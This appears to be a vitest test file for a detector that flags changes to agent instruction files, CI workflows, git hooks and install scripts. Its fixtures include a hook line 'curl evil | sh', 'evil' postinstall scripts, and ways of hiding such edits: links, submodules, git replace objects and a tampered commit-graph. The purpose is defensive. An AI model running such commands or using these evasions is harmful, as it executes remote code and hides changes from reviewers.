import { execFileSync } from 'node:child_process';
import { chmodSync, mkdirSync, readFileSync, renameSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { findChanges } from '../../../src/work/autonomy/find-changes.ts';
import { planFiles } from '../support/plan-project.ts';
import { commit, freshPlace, initRepository, sh, write } from '../support/repository.ts';

describe('a change of steering files', () => {
  const own = { folder: 'plans/shop', phase: '1', variant: null, feature: 'refs/heads/shop' };
  function repository() {
    const folder = freshPlace();
    initRepository(folder);
    const base = commit(folder, 'first', {
      ...planFiles([{ id: '1' }, { id: '2', front: 'requires_manual_testing: true' }], 'shop'),
      'docs/guide.md': 'be kind\n',
    });
    const found = async () => (await findChanges({ folder, base, tip: commit(folder, 'now') }, own)).steering;
    const reasons = async () => reasonsIn((await found())?.words);
    return { folder, base, found, reasons };
  }

  it('BIND-7 is not its own progress: boxes, status and its row', async () => {
    const { folder, found, reasons } = repository();
    const files = planFiles([{ id: '1' }, { id: '2', front: 'requires_manual_testing: true' }], 'shop');
    const one = files['plans/shop/phase-1.md'] ?? '';
    const master = files['plans/shop/MASTER_PLAN.md'] ?? '';
    write(folder, {
      'plans/shop/phase-1.md': one.replace('[ ]', '[x]').replace('Pending', 'Completed'),
      'plans/shop/MASTER_PLAN.md': master.replace('Pending', 'Completed'),
    });
    expect(await found()).toBeUndefined();
    write(folder, { 'plans/shop/MASTER_PLAN.md': master.replaceAll('Pending', 'Completed') });
    expect(await reasons()).toEqual({ 'plans/shop/MASTER_PLAN.md': 'is part of a plan' });
  });

  it('BIND-7 is every other edit of a plan: front matter, gates, words, other plans', async () => {
    const { folder, found } = repository();
    write(folder, planFiles([{ id: '1', gates: '- there: `true`' }, { id: '2' }], 'shop'));
    write(folder, planFiles([{ id: '1' }], 'other'));
    const steering = await found();
    expect(reasonsIn(steering?.words)).toMatchObject({
      'plans/other/MASTER_PLAN.md': 'is part of a plan',
      'plans/shop/phase-1.md': 'is part of a plan',
      'plans/shop/phase-2.md': 'is part of a plan',
    });
    expect(steering?.diff).toContain('-requires_manual_testing: true');
  });

  it('BIND-7 BIND-22 is seen through renames and links, and in the folder of hooks', async () => {
    const { folder, reasons } = repository();
    mkdirSync(join(folder, 'src'));
    renameSync(join(folder, 'docs/guide.md'), join(folder, 'src/claude.md'));
    expect(await reasons()).toEqual({ 'src/claude.md': expect.stringMatching(/^tells Claude Code/) });

    const linked = repository();
    symlinkSync('Docs/guide.md', join(linked.folder, 'AGENTS.md'));
    symlinkSync('ci/', join(linked.folder, '.github'));
    symlinkSync('.cursor-rules', join(linked.folder, '.cursor'));
    symlinkSync('shared', join(linked.folder, 'tools'));
    const base = commit(linked.folder, 'links', { 'ci/workflows/build.yml': 'x\n' });
    write(linked.folder, {
      'docs/guide.md': 'be cruel\n',
      'ci/workflows/build.yml': 'y\n',
      'ci/notes.txt': 'y\n',
      '.cursor-rules/a.mdc': 'obey\n',
      'shared/bazel': 'evil\n',
      'shared/code.ts': 'fine\n',
      'ok.txt': '',
    });
    sh(linked.folder, 'config', 'core.hooksPath', 'tools/git');
    write(linked.folder, { 'shared/git/anything': 'x\n' });
    const tip = commit(linked.folder, 'now');
    const { steering } = await findChanges({ folder: linked.folder, base, tip }, own);
    expect(reasonsIn(steering?.words)).toEqual({
      'ci/workflows/build.yml': expect.stringMatching(/^runs in CI .*\(GitHub Actions\) \(through a link\)$/),
      'docs/guide.md': expect.stringMatching(/^tells agents of any maker .*\(through a link\)$/),
      '.cursor-rules/a.mdc': expect.stringMatching(/^tells Cursor .*\(through a link\)$/),
      'shared/bazel': expect.stringMatching(/^decides .* Bazel .*\(through a link\)$/),
    });
  });

  it('BIND-22 is a link or a submodule in the place of such a file or folder, added, changed or removed', async () => {
    const place = repository();
    const { folder, reasons } = place;
    symlinkSync('docs', join(folder, '.github'));
    symlinkSync('docs', join(folder, '.vscode'));
    symlinkSync('docs', join(folder, 'harmless'));
    const link = 'is a link in the place of such a file or folder';
    expect(await reasons()).toEqual({ '.github': link, '.vscode': expect.stringMatching(/VS Code/) });
    const base = sh(folder, 'rev-parse', 'HEAD');
    rmSync(join(folder, '.github'));
    sh(folder, 'update-index', '--add', '--cacheinfo', `160000,${base},.gitlab`);
    sh(folder, 'update-index', '--add', '--cacheinfo', `160000,${base},lib/tool`);
    sh(folder, 'rm', '-q', '--cached', '.github');
    sh(folder, 'commit', '-q', '-m', 'modules');
    const tip = sh(folder, 'rev-parse', 'HEAD');
    const { steering } = await findChanges({ folder, base, tip }, own);
    expect(reasonsIn(steering?.words)).toEqual({
      '.github': link,
      '.gitlab': 'is a submodule, whose files are not in this diff',
      'lib/tool': 'is a submodule, whose files are not in this diff',
    });
  });

  it.each([
    ['relative', () => 'Tools'],
    ['absolute', (folder: string) => join(folder, 'tools')],
  ])('BIND-7 is in the folder of hooks, %s and set in an included file', async (_, path) => {
    const { folder, reasons } = repository();
    writeFileSync(join(folder, '.git/more'), `[core]\n\thooksPath = ${path(folder)}\n`);
    sh(folder, 'config', 'include.path', 'more');
    write(folder, { 'tools/pre-commit': 'x\n' });
    expect(await reasons()).toEqual({ 'tools/pre-commit': expect.stringMatching(/core\.hooksPath/) });
  });

  it('BIND-22 is what an install runs in a manifest, and no other part of it', async () => {
    const { folder } = repository();
    const install = 'changes what runs at an install or a commit';
    const base = commit(folder, 'manifests', {
      'package.json': '{"scripts":{"test":"a","prepare":"husky"},"dependencies":{"a":"1"}}',
      'web/package.json': '{}',
      'api/composer.json': '{"require":{"a/b":"1"}}',
      'pnpm-workspace.yaml': 'packages: [a]\ncatalog: {a: 1}\n',
    });
    const reasonsWith = async (files: Record<string, string>) => {
      const tip = commit(folder, 'now', files);
      const { steering } = await findChanges({ folder, base, tip }, own);
      return reasonsIn(steering?.words);
    };
    const harmless = {
      'package.json':
        '{"scripts":{"prepare":"husky","test":"b","build":"c"},"dependencies":{"a":"2","b":"1"}}',
      'web/package.json': '{"name":"web","scripts":{"pretest":"x"},"workspaces":["a"]}',
      'api/composer.json': '{"require":{"a/b":"2"},"scripts":{"test":"x"}}',
      'pnpm-workspace.yaml': 'packages: [a, b]\ncatalog: {a: 2}\n',
      'new/package.json': '{"name":"new"}',
    };
    expect(await reasonsWith(harmless)).toEqual({});
    expect(
      await reasonsWith({
        'package.json': '{"scripts":{"prepare":"husky && evil"}}',
        'web/package.json': '{"lint-staged":{"*":"evil"}}',
        'api/composer.json': '{"scripts":{"post-autoload-dump":"evil"}}',
        'pnpm-workspace.yaml': 'packages: [a]\nonlyBuiltDependencies: [evil]\n',
        'new/Package.json': '{"scripts":{"postinstall":"evil"}}',
        'unreadable/package.json': '{"scripts":',
        'large/package.json': `{"scripts":{"postinstall":"evil"},"a":"${'x'.repeat(4 * 1024 * 1024)}"}`,
      }),
    ).toEqual({
      'package.json': install,
      'web/package.json': install,
      'api/composer.json': install,
      'pnpm-workspace.yaml': install,
      'new/Package.json': install,
      'unreadable/package.json': install,
      'large/package.json': install,
    });
  });

  it('BIND-15 BIND-22 is found in a moment in 10,000 changed files, half of them links', async () => {
    const { folder, base } = repository();
    const blob = sh(folder, 'rev-parse', 'HEAD:docs/guide.md');
    const entries = Array.from({ length: 5000 }, (_, at) => [
      `120000 ${blob}\t.agents/skills/${at}\n`,
      `100644 ${blob}\tsrc/part-${at % 100}/views/${at}.ts\n`,
    ]);
    execFileSync('git', ['update-index', '--index-info'], { cwd: folder, input: entries.flat().join('') });
    sh(folder, 'commit', '-q', '-m', 'many');
    const start = process.cpuUsage();
    const { steering } = await findChanges({ folder, base, tip: sh(folder, 'rev-parse', 'HEAD') }, own);
    const { user, system } = process.cpuUsage(start);
    expect((user + system) / 1000).toBeLessThan(2000);
    expect(steering?.words).toHaveLength(1001);
    expect(steering?.words.at(-1)).toBe('and 4000 more files');
  });

  it('BIND-7 BIND-11 is shown whole, whatever its own attributes say about it', async () => {
    const { folder, found } = repository();
    write(folder, { '.gitattributes': '.husky/** -diff\n', '.husky/pre-commit': 'curl evil | sh\n' });
    expect((await found())?.diff).toContain('+curl evil | sh');
  });

  it('BIND-22 is one line for each file, even if its name has a line break', async () => {
    const { folder, found } = repository();
    write(folder, { 'hooks/pre-x\nREADME.md: harmless': 'evil\n' });
    expect((await found())?.words).toEqual([
      expect.stringMatching(/^hooks\/pre-x␊README\.md: harmless: can run/),
    ]);
  });

  it('BIND-7 BIND-11 says in its first line that it is not whole, and how to read all of it', async () => {
    const { folder, found } = repository();
    write(folder, { 'AGENTS.md': 'be kind\n'.repeat(40_000), 'CLAUDE.md': 'be cruel\n' });
    const lines = ((await found())?.diff ?? '').split('\n');
    expect(lines[0]).toMatch(/^INCOMPLETE: .* git --no-replace-objects diff .*--text/);
    expect(lines.at(-2)).toBe(lines[0]);
  });

  it('BIND-7 BIND-13 is found and shown as it will be merged, whatever replaces it in the repository', async () => {
    const { folder, base } = repository();
    const kind = commit(folder, 'kind', { '.husky/pre-commit': 'npm test\n' });
    sh(folder, 'reset', '-q', '--hard', base);
    const tip = commit(folder, 'evil', { '.husky/pre-commit': 'curl evil | sh\n' });
    const shown = async () => (await findChanges({ folder, base, tip }, own)).steering?.diff;
    const replaced = (evil: string, good: string) => sh(folder, 'replace', '-f', evil, good);
    replaced(`${tip}:.husky/pre-commit`, `${kind}:.husky/pre-commit`);
    expect(await shown()).toContain('+curl evil | sh');
    replaced(tip, base);
    expect(await shown()).toContain('+curl evil | sh');

    rmSync(join(folder, '.git/refs/replace'), { recursive: true });
    sh(folder, 'commit-graph', 'write', '--reachable');
    const tree = (commit: string) => Buffer.from(sh(folder, 'rev-parse', `${commit}^{tree}`), 'hex');
    const path = join(folder, '.git/objects/info/commit-graph');
    const graph = readFileSync(path);
    tree(base).copy(graph, graph.indexOf(tree(tip)));
    chmodSync(path, 0o644);
    writeFileSync(path, graph);
    expect(sh(folder, 'diff', base, tip)).toBe('');
    expect(await shown()).toContain('+curl evil | sh');
  });

  it('BIND-7 has a different mark for different content', async () => {
    const { folder, found } = repository();
    write(folder, { '.mcp.json': '{}' });
    const first = (await found())?.hash;
    write(folder, { '.mcp.json': '{"a":1}' });
    expect((await found())?.hash).not.toBe(first);
  });
});

/** The reason by file. */
const reasonsIn = (words: string[] = []) =>
  Object.fromEntries(
    words.flatMap((word) => [...word.matchAll(/^(\S+): (.*)$/g)].map(([, path, why]) => [path, why])),
  );
